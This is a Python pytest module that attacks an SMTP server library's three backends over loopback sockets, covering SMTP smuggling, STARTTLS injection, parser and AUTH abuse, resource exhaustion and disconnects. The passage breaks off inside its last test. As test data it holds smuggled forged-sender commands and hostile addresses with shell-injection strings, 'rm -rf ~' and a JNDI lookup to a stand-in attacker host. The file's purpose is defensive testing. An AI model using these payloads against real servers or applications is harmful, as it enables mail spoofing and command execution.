"""The attack classes aimed at servers, over real loopback sockets.

Theory of operation
-------------------
``../shared/PROTOCOL.md`` section 3 lists nine attack classes; 1, 3, 5, 6, 7
and 9 are aimed at a server.  The core and the flows are tested against
each of them in memory elsewhere (``test_server.py``, ``test_starttls.py``,
``test_auth.py``, ``test_esmtp_attacks.py``...).  These tests play the
attacker against the real thing: each of our three server backends
(blocking, asyncio, trio; ``running()`` from ``test_adapter_matrix``) runs
on a loopback port, and a :class:`~scripted.RawClient` sends it the exact
hostile bytes, in one packet or spread over many, and reads every reply.

Each test is named ``test_attack_<class>_<what>`` and checks two things:
the replies on the wire (one per command, in order, with the RFC's code,
and none for bytes that must not be read as commands) and what reached
the application (the :class:`Journal` handler records every hook call), so
"nothing smuggled" means no hook ever saw the smuggled envelope.  Every
socket read has a timeout, so a server that stops answering fails a test
instead of hanging it; where a test needs the server to notice a cut, it
waits (bounded) for the ``disconnect`` hook.
"""

from __future__ import annotations

import asyncio
import base64
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import product
from typing import Any

import pytest

from smtpproto import Mail, Rcpt, ServerConfig, sasl
from smtpproto.flows import Envelope, Handler, ServerTimeouts, Session

import certs
from scripted import RawClient, codes
from test_adapter_matrix import KINDS, running

USERS = {"bob": "secret"}
EHLO = b"EHLO client.example\r\n"
ENVELOPE = b"MAIL FROM:<alice@example.org>\r\nRCPT TO:<bob@example.org>\r\n"
SMUGGLED = (
    b"MAIL FROM:<evil@attacker.example>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\n"
    b"Subject: forged\r\n\r\nforged\r\n"
)
PLAIN_OK = b"AUTH PLAIN " + base64.b64encode(b"\0bob\0secret") + b"\r\n"
PLAIN_BAD = b"AUTH PLAIN " + base64.b64encode(b"\0bob\0wrong") + b"\r\n"
# Seconds to wait for the server to notice something (a bound, not a measure).
NOTICE = 10.0


class Journal(Handler):
    """Records every hook call a server makes; checks passwords."""

    def __init__(self, *, streaming: bool = False) -> None:
        self.streaming = streaming
        self.mails: list[str] = []
        self.rcpts: list[str] = []
        self.messages: list[Envelope] = []
        self.chunks: list[bytes] = []
        self.auth_requests: list[tuple[str, str]] = []
        self.disconnects = 0
        self._changed = threading.Condition()

    def auth(self, session: Session, request: object) -> object:
        assert isinstance(request, sasl.CheckPassword), request
        with self._changed:
            self.auth_requests.append((request.authcid, request.password))
        return USERS.get(request.authcid) == request.password

    def mail(self, session: Session, mail: Mail) -> None:
        with self._changed:
            self.mails.append(mail.reverse_path)

    def rcpt(self, session: Session, rcpt: Rcpt) -> None:
        with self._changed:
            self.rcpts.append(rcpt.forward_path)

    def message_data(self, session: Session, chunk: bytes) -> None:
        with self._changed:
            self.chunks.append(chunk)

    def message(self, session: Session, envelope: Envelope) -> None:
        with self._changed:
            self.messages.append(envelope)

    def disconnect(self, session: Session) -> None:
        with self._changed:
            self.disconnects += 1
            self._changed.notify_all()

    def wait_for_disconnects(self, count: int) -> None:
        """Wait (bounded) until *count* sessions have ended."""
        with self._changed:
            assert self._changed.wait_for(lambda: self.disconnects >= count, NOTICE), (
                f"only {self.disconnects} of {count} sessions ended"
            )


@contextmanager
def serving(kind: str, handler: Handler, **kwargs: Any) -> Iterator[tuple[str, int]]:
    """``running()``, except that an asyncio server's shutdown gives a stuck
    session 2 s, not 30 s, before cancelling it (for the xfail below)."""
    if kind != "asyncio":
        with running(kind, handler, **kwargs) as address:
            yield address
        return
    from smtpproto.asyncio import AsyncSMTPServer

    ready = threading.Event()
    box: dict[str, Any] = {}

    async def main() -> None:
        server = AsyncSMTPServer(handler, **kwargs)
        await server.start()
        box.update(server=server, loop=asyncio.get_running_loop())
        ready.set()
        await server.serve_forever()

    thread = threading.Thread(target=asyncio.run, args=(main(),), daemon=True)
    thread.start()
    try:
        assert ready.wait(NOTICE), "the asyncio server did not start"
        host, port = box["server"].address[:2]
        yield host, port
    finally:
        if "loop" in box:
            shutdown = box["server"].shutdown(timeout=2.0)
            asyncio.run_coroutine_threadsafe(shutdown, box["loop"]).result(3 * NOTICE)
        thread.join(3 * NOTICE)
        assert not thread.is_alive()


@pytest.fixture(params=KINDS)
def kind(request: pytest.FixtureRequest) -> str:
    """The server backend under attack."""
    value: str = request.param
    return value


def unstuff(content: bytes) -> bytes:
    """RFC 5321 §4.5.2: one leading dot comes off every line, the first included."""
    return (b"\r\n" + content).replace(b"\r\n.", b"\r\n")[2:]


def has_bare_line_ending(data: bytes) -> bool:
    """True when *data* holds a CR or LF that is not part of a CRLF."""
    crlf = data.count(b"\r\n")
    return data.count(b"\r") != crlf or data.count(b"\n") != crlf


def assert_ascii_replies(replies: list[bytes]) -> None:
    """RFC 5321 §4.2: reply lines are a code and text of %d9 / %d32-126, CRLF."""
    for reply in replies:
        for line in reply.split(b"\r\n")[:-1]:
            assert all(octet == 9 or 32 <= octet <= 126 for octet in line), reply


# =============================================================================
# Class 1: inbound smuggling
# =============================================================================


def fake_ends() -> Iterator[bytes]:
    """Every "end of data" made of a bare CR, bare LF or CRLF before a dot
    and after it, with and without a NUL on either side of the dot, that
    is not the real CRLF . CRLF (RFC 5321 §4.1.1.4)."""
    befores = [b"\n", b"\r", b"\r\n", b"\n\r"]
    afters = [b"\n", b"\r", b"\r\n", b"\r\r\n"]
    nuls = [b"", b"\0"]
    for before, nul_before, nul_after, after in product(befores, nuls, nuls, afters):
        end = before + nul_before + b"." + nul_after + after
        if b"\r\n.\r\n" not in end:
            yield end
    yield b"\r\n..\r\n"  # a stuffed dot line
    yield b"\r\n .\r\n"


FAKE_ENDS = list(fake_ends())


def smuggling_content(fake_end: bytes) -> bytes:
    """A message whose first line ends in *fake_end*, then a smuggled transaction."""
    content = b"Subject: smuggle\r\n\r\nhello" + fake_end + SMUGGLED
    assert b"\r\n.\r\n" not in content
    return content


def send_smuggling_session(address: tuple[str, int], content: bytes, split: str) -> list[bytes]:
    """One session: a message holding *content*, the real end, QUIT; returns
    the replies after the 354 (or, in one packet, after the greeting)."""
    with RawClient(address) as client:
        if split == "one_packet":
            # Everything at once, content before its 354 (RFC 2920 §3.1 says
            # wait; an attacker does not).
            client.send(EHLO + ENVELOPE + b"DATA\r\n" + content + b".\r\nQUIT\r\n")
            assert codes(client.replies(5)) == [220, 250, 250, 250, 354]
            return client.replies_until_closed()
        client.greeting_and_ehlo()
        client.send(ENVELOPE + b"DATA\r\n")
        assert codes(client.replies(3)) == [250, 250, 354]
        if split == "whole":
            client.send(content + b".\r\nQUIT\r\n")
        else:
            # One octet per packet from just before the fake end on.
            client.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            cut = content.index(b"hello") + 4
            client.send(content[:cut])
            for index in range(cut, len(content)):
                client.send(content[index : index + 1])
            client.send(b".\r\nQUIT\r\n")
        return client.replies_until_closed()


@pytest.mark.parametrize("split", ["whole", "bytewise", "one_packet"])
def test_attack_1_fake_ends_of_data_never_end_the_message(kind: str, split: str) -> None:
    """Every fake end followed by a smuggled MAIL/RCPT/DATA: a message with
    a bare CR or LF is refused whole (554 5.6.0), one with only NULs around
    the dot is one message; the smuggled commands are never answered and
    never reach the handler."""
    handler = Journal()
    delivered: list[bytes] = []
    with running(kind, handler) as address:
        for fake_end in FAKE_ENDS:
            content = smuggling_content(fake_end)
            replies = send_smuggling_session(address, content, split)
            bare = has_bare_line_ending(content)
            assert codes(replies) == ([554, 221] if bare else [250, 221]), (fake_end, replies)
            if bare:
                assert replies[0].startswith(b"554 5.6.0"), replies
            else:
                delivered.append(unstuff(content))
        handler.wait_for_disconnects(len(FAKE_ENDS))
    assert [m.content for m in handler.messages] == delivered
    assert all(m.sender == "alice@example.org" for m in handler.messages)
    assert handler.mails == ["alice@example.org"] * len(FAKE_ENDS)
    assert handler.rcpts == ["bob@example.org"] * len(FAKE_ENDS)


def test_attack_1_fake_ends_are_literal_data_when_allowed(kind: str) -> None:
    """With ``allow_bare_line_endings`` each session delivers exactly one
    message, to the real envelope, with the smuggled commands as text."""
    handler = Journal()
    config = ServerConfig(allow_bare_line_endings=True)
    with running(kind, handler, config=config) as address:
        for fake_end in FAKE_ENDS:
            content = smuggling_content(fake_end)
            assert codes(send_smuggling_session(address, content, "whole")) == [250, 221], fake_end
        handler.wait_for_disconnects(len(FAKE_ENDS))
    assert [m.content for m in handler.messages] == [unstuff(smuggling_content(e)) for e in FAKE_ENDS]
    assert all(SMUGGLED in m.content for m in handler.messages if m.content is not None)
    assert [m.recipient_addresses for m in handler.messages] == [["bob@example.org"]] * len(FAKE_ENDS)
    assert set(handler.mails) == {"alice@example.org"} and set(handler.rcpts) == {"bob@example.org"}


def test_attack_1_bdat_content_is_counted_not_scanned(kind: str) -> None:
    """RFC 3030 §2: BDAT octets are counted; a terminator and commands in
    them are data, split over chunks or not."""
    first = b"Subject: bdat\r\n\r\nhello\r\n.\r\n" + SMUGGLED[:20]
    last = SMUGGLED[20:] + b"\r\n.\r\nQUIT\r\n"
    handler = Journal()
    with running(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(
            ENVELOPE
            + b"BDAT %d\r\n" % len(first) + first
            + b"BDAT %d LAST\r\n" % len(last) + last
            + b"QUIT\r\n"
        )
        assert codes(client.replies_until_closed()) == [250, 250, 250, 250, 221]
    assert [m.content for m in handler.messages] == [first + last]
    assert handler.mails == ["alice@example.org"] and handler.rcpts == ["bob@example.org"]


# =============================================================================
# Class 3: STARTTLS injection
# =============================================================================


def tls_server(kind: str, handler: Handler, **config: Any) -> Any:
    """A server offering STARTTLS (with *config* settings added)."""
    return running(
        kind, handler, config=ServerConfig(starttls=True, **config), ssl_context=certs.server_context()
    )


def test_attack_3_command_pipelined_after_starttls_is_never_answered(kind: str) -> None:
    """RFC 3207 §6: "STARTTLS\\r\\nMAIL FROM:<x@y>\\r\\n" in one packet is
    refused (554 5.5.1) and the connection closed: no handshake, and the
    MAIL is never read, under TLS or not."""
    handler = Journal()
    with tls_server(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(b"STARTTLS\r\nMAIL FROM:<x@y>\r\n")
        replies = client.replies_until_closed()
        assert codes(replies) == [554], replies
        assert replies[0].startswith(b"554 5.5.1")
    assert handler.mails == []


def test_attack_3_cleartext_bytes_before_the_handshake_end_the_session(kind: str) -> None:
    """A MAIL sent in cleartext after the 220 and before the handshake is
    not read as if it came through TLS: the handshake fails, the session
    ends, and the server goes on serving others."""
    handler = Journal()
    with tls_server(kind, handler) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(b"STARTTLS\r\n")
            assert client.reply().startswith(b"220 ")
            client.send(b"MAIL FROM:<x@y>\r\n")
            # The server reads the MAIL as the start of a ClientHello, or
            # refuses to begin with bytes waiting: either way, no handshake.
            with pytest.raises(OSError):  # ssl.SSLError, a reset or an EOF
                client.start_tls(certs.client_context())
        handler.wait_for_disconnects(1)
        with RawClient(address) as client:
            client.greeting_and_ehlo()
    assert handler.mails == []


def test_attack_3_tls_forgets_the_cleartext_session(kind: str) -> None:
    """RFC 3207 §4.2: after the handshake the server forgets the EHLO; MAIL
    needs a new EHLO (503), and STARTTLS is neither offered nor accepted."""
    handler = Journal()
    with tls_server(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(b"STARTTLS\r\n")
        assert client.reply().startswith(b"220 ")
        client.start_tls(certs.client_context())
        client.send(b"MAIL FROM:<x@example.org>\r\n")
        assert codes([client.reply()]) == [503]
        client.send(EHLO)
        reply = client.reply()
        assert reply.startswith(b"250") and b"STARTTLS" not in reply
        client.send(b"STARTTLS\r\n")
        assert 500 <= codes([client.reply()])[0] < 600
        client.send(b"MAIL FROM:<x@example.org>\r\nQUIT\r\n")
        assert codes(client.replies_until_closed()) == [250, 221]
    assert handler.mails == ["x@example.org"]


# =============================================================================
# Class 5: parser abuse
# =============================================================================

# (command line, reply code): RFC 5321 §4.2.2/§4.2.4 and the extension RFCs.
MALFORMED = [
    (b"NOOP\rMAIL FROM:<evil@attacker.example>", 500),  # bare CR inside a line
    (b"MAIL FROM:<a\0b@example.org>", 500),  # NUL
    (b"MAIL FROM:<a\x1b@example.org>", 500),  # a control character
    (b"VRFY \x07", 500),
    (b"NOOP\nNOOP", 500),  # a bare LF ends no line: one line to the CRLF (§2.3.8)
    (b"MAIL FROM:<\xe2\x82@example.org> SMTPUTF8", 501),  # truncated UTF-8
    (b"MAIL FROM:<a@[256.1.1.1]>", 501),  # address literal out of range
    (b"MAIL FROM:<a@[IPv6:fe80::1%25eth0]>", 501),
    (b"MAIL FROM:<" + b"a" * 65 + b"@example.org>", 501),  # local part > 64 (§4.5.3.1.1)
    (b"MAIL FROM:<a@" + b"b" * 256 + b">", 501),  # path > 256 (§4.5.3.1.3)
    (b'MAIL FROM:<"unbalanced@example.org>', 501),  # unbalanced quote
    (b"MAIL FROM: <a@example.org>", 501),  # space after the colon (§3.3)
    (b"MAIL FROM:<a@example.org> SIZE=1 SIZE=1", 501),  # duplicated parameter
    (b"MAIL FROM:<a@example.org> FOO=bar", 555),  # unknown parameter (§4.1.1.11)
    (b"MAIL FROM:<a@example.org> ENVID=+00", 501),  # xtext decoding to a control
    (b"MAIL FROM:<a@example.org> BODY=9BIT", 501),  # RFC 6152
    (b"DATA extra", 501),  # an argument to a command without one
    (b"RCPT TO:<bob@example.org>", 503),  # no MAIL yet
]


def test_attack_5_malformed_commands_are_refused_and_the_session_goes_on(kind: str) -> None:
    """Each malformed line gets one 5xx with the RFC's code, in order, even
    pipelined in one packet; then a well-formed message is delivered."""
    handler = Journal()
    with running(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(b"".join(line if line.endswith(b"\n") else line + b"\r\n" for line, _ in MALFORMED))
        replies = client.replies(len(MALFORMED))
        assert codes(replies) == [code for _, code in MALFORMED]
        client.send(ENVELOPE + b"DATA\r\n")
        assert codes(client.replies(3)) == [250, 250, 354]
        client.send(b"Subject: ok\r\n\r\nbody\r\n.\r\nQUIT\r\n")
        assert codes(client.replies_until_closed()) == [250, 221]
    assert handler.mails == ["alice@example.org"]
    assert [m.content for m in handler.messages] == [b"Subject: ok\r\n\r\nbody\r\n"]


# Addresses that a careless application might expand, interpolate or run.
HOSTILE_ADDRESSES = [
    '"$(touch pwned)"@example.org',
    "`id`@example.org",
    '"${jndi:ldap://attacker.example/a}"@example.org',
    "user%other@example.org",
    "|/bin/sh@example.org",
    '"; rm -rf ~; "@example.org',
    "%s%n%x@example.org",
    '"a\\"b"@example.org',
]


def test_attack_5_addresses_reach_the_handler_as_data(kind: str) -> None:
    """Addresses are data: the handler gets each one exactly as sent."""
    handler = Journal()
    with running(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        for hostile in HOSTILE_ADDRESSES:
            path = b"<" + hostile.encode() + b">"
            client.send(b"MAIL FROM:" + path + b"\r\nRCPT TO:" + path + b"\r\nRSET\r\n")
            assert codes(client.replies(3)) == [250, 250, 250], hostile
    assert handler.mails == HOSTILE_ADDRESSES
    assert handler.rcpts == HOSTILE_ADDRESSES


def test_attack_5_replies_never_carry_octets_outside_ascii(kind: str) -> None:
    """A reply quotes what it refused; it must not copy 8-bit octets into a
    reply line (RFC 5321 §4.2.1: textstring = 1*(%d09 / %d32-126))."""
    lines = [
        b"\xff\xfe",
        "\u00c4\u00d6".encode(),
        b"MAIL FROM:<a@example.org> FOO\xc3\xa9=bar",
        b"MAIL FROM:<a@example.org> BODY=\xc3\xa9",
        b"MAIL FROM:<\xc3\xa9@example.org>",
        b"MAIL FROM:<a@" + "\u00e9".encode() + b".example>",
        b"\x80",
    ]
    handler = Journal()
    with running(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(b"".join(line + b"\r\n" for line in lines))
        replies = client.replies(len(lines))
        assert all(500 <= code < 600 for code in codes(replies))
        assert_ascii_replies(replies)


# =============================================================================
# Class 6: AUTH abuse
# =============================================================================


def auth_server(kind: str, handler: Handler, **config: Any) -> Any:
    """A server with AUTH PLAIN and LOGIN under implicit TLS (RFC 8314)."""
    settings: dict[str, Any] = {"auth_mechanisms": ("PLAIN", "LOGIN")} | config
    return running(
        kind, handler, config=ServerConfig(**settings), ssl_context=certs.server_context(), implicit_tls=True
    )


def b64(data: bytes) -> bytes:
    """Base64 as RFC 4954 §4 uses it."""
    return base64.b64encode(data)


# (what, bytes sent, reply codes): RFC 4954 §4 and RFC 4616.
AUTH_ABUSE = [
    ("equals initial response", b"AUTH PLAIN =\r\n", [501]),
    ("empty LOGIN user", b"AUTH LOGIN =\r\n", [501]),
    ("cancel", b"AUTH LOGIN\r\n*\r\n", [334, 501]),
    ("empty response", b"AUTH PLAIN\r\n\r\n", [334, 501]),
    ("invalid base64", b"AUTH PLAIN not*base64\r\n", [501]),
    ("unpadded base64", b"AUTH PLAIN " + b64(b"\0bob\0secret").rstrip(b"=") + b"\r\n", [501]),
    ("invalid base64 response", b"AUTH LOGIN\r\n%%%\r\n", [334, 501]),
    ("PLAIN with one NUL", b"AUTH PLAIN " + b64(b"bob\0secret") + b"\r\n", [501]),
    ("PLAIN with three NULs", b"AUTH PLAIN " + b64(b"a\0bob\0secret\0") + b"\r\n", [501]),
    ("PLAIN with two leading NULs", b"AUTH PLAIN " + b64(b"\0\0bob\0secret") + b"\r\n", [501]),
    ("unknown mechanism", b"AUTH DIGEST-MD5\r\n", [504]),
    ("switching mechanism", b"AUTH LOGIN\r\n" + PLAIN_OK, [334, 501]),
    ("oversized initial response", b"AUTH PLAIN " + b"QUFB" * 3100 + b"\r\n", [500]),
    ("oversized response", b"AUTH LOGIN\r\n" + b"QUFB" * 3100 + b"\r\n", [334, 500]),
]


def test_attack_6_malformed_auth_is_refused_before_the_application(kind: str) -> None:
    """Every malformed exchange gets its RFC 4954 reply and never reaches
    the password check; a good AUTH afterwards still works."""
    handler = Journal()
    with auth_server(kind, handler, max_auth_failures=50, max_errors=50) as address:
        with RawClient(address, tls=certs.client_context()) as client:
            assert b"AUTH PLAIN LOGIN" in client.greeting_and_ehlo()
            for what, data, expected in AUTH_ABUSE:
                client.send(data)
                assert codes(client.replies(len(expected))) == expected, what
            client.send(PLAIN_OK)
            assert client.reply().startswith(b"235 2.7.0")
            client.send(b"MAIL FROM:<bob@example.org>\r\nQUIT\r\n")
            assert codes(client.replies_until_closed()) == [250, 221]
    assert handler.auth_requests == [("bob", "secret")]


def test_attack_6_auth_out_of_sequence_is_503(kind: str) -> None:
    """RFC 4954 §4: AUTH before EHLO, after HELO, during a transaction and
    after a successful AUTH is a 503."""
    handler = Journal()
    with auth_server(kind, handler) as address:
        with RawClient(address, tls=certs.client_context()) as client:
            assert client.reply().startswith(b"220 ")
            client.send(PLAIN_OK + b"HELO client.example\r\n" + PLAIN_OK)
            assert codes(client.replies(3)) == [503, 250, 503]
        with RawClient(address, tls=certs.client_context()) as client:
            client.greeting_and_ehlo()
            client.send(b"MAIL FROM:<a@example.org>\r\n" + PLAIN_OK + b"RSET\r\n")
            assert codes(client.replies(3)) == [250, 503, 250]
            client.send(PLAIN_OK)
            assert codes([client.reply()]) == [235]
            client.send(PLAIN_OK)
            assert codes([client.reply()]) == [503]
    assert handler.auth_requests == [("bob", "secret")]


@pytest.mark.parametrize("require_tls", [False, True], ids=["starttls", "require_tls"])
def test_attack_6_credentials_in_cleartext_are_never_checked(kind: str, require_tls: bool) -> None:
    """Before STARTTLS the server offers no AUTH, and an AUTH PLAIN sent
    anyway is refused (538 5.7.11, or 530 when TLS is required) without
    the password reaching the application."""
    handler = Journal()
    with tls_server(kind, handler, auth_mechanisms=("PLAIN", "LOGIN"), require_tls=require_tls) as address:
        with RawClient(address) as client:
            assert b"AUTH" not in client.greeting_and_ehlo()
            client.send(PLAIN_OK + b"AUTH LOGIN " + b64(b"bob") + b"\r\n")
            replies = client.replies(2)
            assert codes(replies) == ([530, 530] if require_tls else [538, 538]), replies
    assert handler.auth_requests == []


def test_attack_6_repeated_failures_close_the_session(kind: str) -> None:
    """After ``max_auth_failures`` failures the answer is 421 and the
    connection is closed; the server goes on serving others."""
    handler = Journal()
    with auth_server(kind, handler, max_auth_failures=3) as address:
        with RawClient(address, tls=certs.client_context()) as client:
            client.greeting_and_ehlo()
            client.send(PLAIN_BAD * 4)
            replies = client.replies_until_closed()
            assert codes(replies) == [535, 535, 421], replies
        with RawClient(address, tls=certs.client_context()) as client:
            client.greeting_and_ehlo()
            client.send(PLAIN_OK)
            assert codes([client.reply()]) == [235]
    assert handler.auth_requests == [("bob", "wrong")] * 3 + [("bob", "secret")]


# =============================================================================
# Class 7: resource exhaustion
# =============================================================================


@pytest.mark.parametrize("length", [20_000, 1_000_000])
def test_attack_7_line_without_crlf_is_500_and_the_server_survives(kind: str, length: int) -> None:
    """RFC 5321 §4.5.3.1.4: an over-long line costs one 500; the session
    reads on from its end."""
    handler = Journal()
    with running(kind, handler) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(b"NOOP " + b"x" * length)
            client.send(b"\r\nNOOP\r\n")
            replies = client.replies(2)
            assert codes(replies) == [500, 250] and replies[0].startswith(b"500 5.5.2")
        with RawClient(address) as client:
            # A line that never ends, then a hang-up: the server lives on.
            client.greeting_and_ehlo()
            client.send(b"MAIL FROM:<" + b"a" * length)
        handler.wait_for_disconnects(2)
        with RawClient(address) as client:
            client.greeting_and_ehlo()
    assert handler.mails == []


def test_attack_7_oversized_message_is_read_to_its_end_then_552(kind: str) -> None:
    """RFC 1870 §6 / RFC 5321 §4.5.3.1.10: the body is read to its end
    (the commands in it stay data), then 552; the session goes on."""
    limit = 65_536
    line = b"x" * 98 + b"\r\n"
    content = line * 700 + b"QUIT\r\n" + SMUGGLED + line * 10
    assert len(content) > limit
    handler = Journal()
    with running(kind, handler, config=ServerConfig(max_message_size=limit)) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(ENVELOPE + b"DATA\r\n")
            assert codes(client.replies(3)) == [250, 250, 354]
            client.send(content + b".\r\nNOOP\r\nQUIT\r\n")
            replies = client.replies_until_closed()
            assert codes(replies) == [552, 250, 221] and replies[0].startswith(b"552 5.3.4"), replies
    assert handler.messages == [] and handler.mails == ["alice@example.org"]


def test_attack_7_too_many_recipients_get_452(kind: str) -> None:
    """RFC 5321 §4.5.3.1.8: recipients past the limit get 452 (not 552);
    the message goes to those accepted."""
    recipients = [f"r{index}@example.org" for index in range(105)]
    handler = Journal()
    with running(kind, handler, config=ServerConfig(max_recipients=100)) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(
                b"MAIL FROM:<alice@example.org>\r\n"
                + b"".join(b"RCPT TO:<%s>\r\n" % r.encode() for r in recipients)
                + b"DATA\r\n"
            )
            replies = client.replies(107)
            assert codes(replies) == [250] + [250] * 100 + [452] * 5 + [354]
            client.send(b"Subject: many\r\n\r\nbody\r\n.\r\nQUIT\r\n")
            assert codes(client.replies_until_closed()) == [250, 221]
    assert [m.recipient_addresses for m in handler.messages] == [recipients[:100]]


def test_attack_7_too_many_errors_get_421_and_close(kind: str) -> None:
    """The ``max_errors``-th mistake is answered 421 and the connection is
    closed (RFC 5321 §3.8); nothing after it is read."""
    handler = Journal()
    with running(kind, handler, config=ServerConfig(max_errors=20)) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(b"XYZZY\r\n" * 30 + b"MAIL FROM:<alice@example.org>\r\n")
            replies = client.replies_until_closed()
            assert codes(replies) == [500] * 19 + [421], replies
    assert handler.mails == []


def test_attack_7_pipelined_batch_is_answered_in_order(kind: str) -> None:
    """A thousand recipients and the message in one packet: one reply per
    command, in order, and one message to all of them."""
    recipients = [f"r{index}@example.org" for index in range(1000)]
    batch = (
        b"MAIL FROM:<alice@example.org>\r\n"
        + b"".join(b"RCPT TO:<%s>\r\n" % r.encode() for r in recipients)
        + b"DATA\r\nSubject: flood\r\n\r\nbody\r\n.\r\nQUIT\r\n"
    )
    handler = Journal()
    with running(kind, handler) as address, RawClient(address) as client:
        client.greeting_and_ehlo()
        client.send(batch)
        assert codes(client.replies_until_closed()) == [250] * 1001 + [354, 250, 221]
    assert [m.recipient_addresses for m in handler.messages] == [recipients]


def test_attack_7_peer_that_never_reads_is_dropped(kind: str) -> None:
    """A client that floods commands and never reads the replies: the server
    stops reading once its replies cannot be written, gives up after its
    write timeout, and goes on serving others."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=16)
    # Small kernel buffers (inherited by accepted sockets on Linux), so
    # the replies back up after a few KB instead of a few MB.
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    flood = b"EHLO client.example\r\n" * 3000
    cap = 400 * len(flood)  # ~25 MB: far more than any buffer on the way
    handler = Journal()
    with running(kind, handler, sock=listener, timeouts=ServerTimeouts(command=1.0, data=1.0)) as address:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        sock.settimeout(3 * NOTICE)  # the server's close may wait for its writes
        sock.connect(address)
        sent = 0
        with sock, pytest.raises((ConnectionResetError, BrokenPipeError)):
            while sent < cap:
                sock.sendall(flood)
                sent += len(flood)
        handler.wait_for_disconnects(1)
        with RawClient(address) as client:
            client.greeting_and_ehlo()
    assert sent < cap


def test_attack_7_slow_sender_is_cut_with_421(kind: str) -> None:
    """RFC 5321 §4.5.3.2.7: a command that never comes ends the session
    with 421 after the server's timeout; so does half a command."""
    handler = Journal()
    with running(kind, handler, timeouts=ServerTimeouts(command=0.5, data=0.5)) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(b"MAIL FROM:<alice@exa")
            replies = client.replies_until_closed()
            assert codes(replies) == [421] and replies[0].startswith(b"421 4.4.2"), replies
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(ENVELOPE + b"DATA\r\n")
            assert codes(client.replies(3)) == [250, 250, 354]
            client.send(b"Subject: slow\r\n\r\nhalf a li")
            assert codes(client.replies_until_closed()) == [421]
    assert handler.messages == []


# =============================================================================
# Class 9: abrupt disconnects
# =============================================================================

BODY = b"Subject: cut\r\n\r\nfirst line\r\nsecond line\r\n"
# Where a DATA transfer is cut (what was sent after the 354).
DATA_CUTS = {
    "mid_line": BODY[:-8],
    "after_a_line": BODY[:-12],
    "before_the_final_dot": BODY,
    "after_the_dot": BODY + b".",
    "after_the_dot_and_cr": BODY + b".\r",
}


@pytest.mark.parametrize("streaming", [False, True], ids=["whole", "streaming"])
@pytest.mark.parametrize("how", ["fin", "rst"])
def test_attack_9_cut_during_data_delivers_nothing(kind: str, how: str, streaming: bool) -> None:
    """A connection cut anywhere before the final CRLF . CRLF stores nothing:
    no ``message`` call (a streaming handler may have seen chunks)."""
    handler = Journal(streaming=streaming)
    with running(kind, handler) as address:
        for count, sent in enumerate(DATA_CUTS.values(), 1):
            with RawClient(address) as client:
                client.greeting_and_ehlo()
                client.send(ENVELOPE + b"DATA\r\n")
                assert codes(client.replies(3)) == [250, 250, 354]
                client.send(sent)
                if how == "rst":
                    client.reset()
                else:
                    client.shut_write()
                    assert client.replies_until_closed() == []
            handler.wait_for_disconnects(count)
    assert handler.messages == []
    assert len(handler.mails) == len(DATA_CUTS)
    # Only a streaming handler sees content, and only pieces of the body.
    assert all(chunk in BODY for chunk in handler.chunks)
    assert bool(handler.chunks) is streaming


BDAT_CUTS = {
    "mid_bdat_line": b"BDAT 20",
    "after_bdat_line": b"BDAT 20 LAST\r\n",
    "mid_chunk": b"BDAT 20 LAST\r\n0123456789",
    "one_octet_short": b"BDAT 20 LAST\r\n0123456789012345678",
    "between_chunks": b"BDAT 10\r\n0123456789",
    "mid_last_chunk": b"BDAT 10\r\n0123456789BDAT 10 LAST\r\n01234",
}


@pytest.mark.parametrize("how", ["fin", "rst"])
def test_attack_9_cut_during_bdat_delivers_nothing(kind: str, how: str) -> None:
    """RFC 3030: a message is complete only with the octets of its LAST
    chunk; a cut before that stores nothing."""
    handler = Journal()
    with running(kind, handler) as address:
        for count, sent in enumerate(BDAT_CUTS.values(), 1):
            with RawClient(address) as client:
                client.greeting_and_ehlo()
                client.send(ENVELOPE + sent)
                assert codes(client.replies(2)) == [250, 250]
                if how == "rst":
                    client.reset()
                else:
                    client.shut_write()
                    # A chunk that was complete may still be answered (250).
                    assert set(codes(client.replies_until_closed())) <= {250}
            handler.wait_for_disconnects(count)
    assert handler.messages == []
    assert len(handler.mails) == len(BDAT_CUTS)


def test_attack_9_the_message_before_a_cut_is_kept(kind: str) -> None:
    """A message whose end of data was answered stays delivered when the
    next one is cut: the rule is per message, not per session."""
    handler = Journal()
    with running(kind, handler) as address:
        with RawClient(address) as client:
            client.greeting_and_ehlo()
            client.send(ENVELOPE + b"DATA\r\n" + BODY + b".\r\n" + ENVELOPE + b"DATA\r\n")
            assert codes(client.replies(7)) == [250, 250, 354, 250, 250, 250, 354]
            client.send(BODY)
            client.reset()
        handler.wait_for_disconnects(1)
    assert [m.content for m in handler.messages] == [BODY]


# The first octets of a TLS ClientHello: the server's handshake is under
# way and waits for the rest.
HALF_A_CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def test_attack_9_reset_during_the_starttls_handshake_frees_the_session(
    kind: str, request: pytest.FixtureRequest
) -> None:
    """A client that resets the connection in the middle of the STARTTLS
    handshake ends its session for good: with ``max_connections=2``, three
    such clients in a row still leave room for a fourth (were the sessions
    left hanging, it would get 421)."""
    handler = Journal()
    config = ServerConfig(starttls=True)
    context = certs.server_context()
    with serving(kind, handler, config=config, ssl_context=context, max_connections=2) as address:
        for count in (1, 2, 3):
